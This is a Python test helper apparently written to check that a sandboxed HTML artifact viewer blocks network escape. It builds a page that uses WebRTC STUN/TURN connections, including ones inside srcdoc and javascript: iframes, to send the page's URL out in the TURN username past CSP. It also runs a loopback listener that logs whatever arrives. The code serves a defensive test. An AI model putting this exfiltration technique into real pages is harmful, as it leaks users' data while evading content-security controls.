"""Issue 33 item 3: an artifact that tries to reach the network through WebRTC (a CSP does not
govern it), and a loopback UDP + TCP listener that records every packet it gets. Shared by the
browser (`serve`) and window tests."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field


@dataclass
class PacketLog:
    port: int = 0
    packets: list[bytes] = field(default_factory=list)


@contextmanager
def packet_listener() -> Iterator[PacketLog]:
    """UDP and TCP on the same loopback port (STUN/TURN over UDP, TURN over TCP)."""
    log = PacketLog()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    log.port = udp.getsockname()[1]
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", log.port))
    tcp.listen(8)
    for sock in (udp, tcp):
        sock.settimeout(0.1)
    stop = threading.Event()

    def read_udp() -> None:
        while not stop.is_set():
            try:
                data, _ = udp.recvfrom(65536)
            except TimeoutError:
                continue
            log.packets.append(b"udp:" + data)

    def read_tcp() -> None:
        while not stop.is_set():
            try:
                conn, _ = tcp.accept()
            except TimeoutError:
                continue
            conn.settimeout(1.0)
            try:
                log.packets.append(b"tcp:" + conn.recv(65536))
            except OSError:
                log.packets.append(b"tcp:(connected)")
            finally:
                conn.close()

    threads = [threading.Thread(target=f, daemon=True) for f in (read_udp, read_tcp)]
    for thread in threads:
        thread.start()
    try:
        yield log
    finally:
        stop.set()
        for thread in threads:
            thread.join(5)
        udp.close()
        tcp.close()


def probe_listener(log: PacketLog) -> None:
    """The listener records what reaches it (so "no packet" means something)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"control", ("127.0.0.1", log.port))


def webrtc_artifact(port: int) -> str:
    """An artifact that shows its own address, then opens peer connections to ICE servers at
    `port` with that address (without its fragment: a TURN user name is at most 509 bytes) in
    the TURN user name: in its own page, in a `srcdoc` frame and in
    a `javascript:` frame (fresh realms a script in the page cannot reach)."""
    ice = json.dumps(
        [
            f"stun:127.0.0.1:{port}",
            f"turn:127.0.0.1:{port}?transport=udp",
            f"turn:127.0.0.1:{port}?transport=tcp",
        ]
    )
    connect = (
        f"var pc = new RTCPeerConnection({{iceServers: [{{urls: {ice},"
        " username: 'leak:' + location.href.split('#')[0], credential: 'x'}]});"
        " pc.createDataChannel('x');"
        " pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });"
    )
    nested = connect.replace('"', "&quot;")
    in_js_url = nested.replace("'", "\\'")
    return (
        '<!doctype html><html><body><p id="where">waiting</p><p id="webrtc">waiting</p>'
        f'<iframe srcdoc="<script>{nested}</script>"></iframe>'
        f"<iframe src=\"javascript:'&lt;script&gt;{in_js_url}&lt;/script&gt;'\"></iframe>"
        "<script>\n"
        "document.getElementById('where').textContent = location.href;\n"
        f"try {{ {connect} document.getElementById('webrtc').textContent = 'opened'; }}\n"
        "catch (e) { document.getElementById('webrtc').textContent = 'refused: ' + e.name; }\n"
        "</script></body></html>"
    )


def webrtc_answer(port: int) -> str:
    return "\n".join(["Here is the page:", "", "```html", webrtc_artifact(port), "```", ""])
